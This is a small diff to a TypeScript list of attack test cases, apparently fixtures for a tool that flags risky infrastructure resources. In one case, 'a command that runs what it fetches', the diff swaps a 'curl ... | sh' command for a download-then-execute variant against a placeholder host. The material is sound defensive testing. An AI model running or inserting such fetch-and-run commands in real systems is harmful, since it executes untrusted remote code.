@@ -159,7 +159,7 @@ export const PODS: readonly Attack[] = [
   [
     "a command that runs what it fetches",
     "pinned-charts",
-    [resource("command:local:Command", { create: "curl -sf https://a.example/i | sh" })],
+    [resource("command:local:Command", { create: "curl -sfo i https://a.example/i && sh i" })],
   ],
   [
     "two autoscalers of one server",
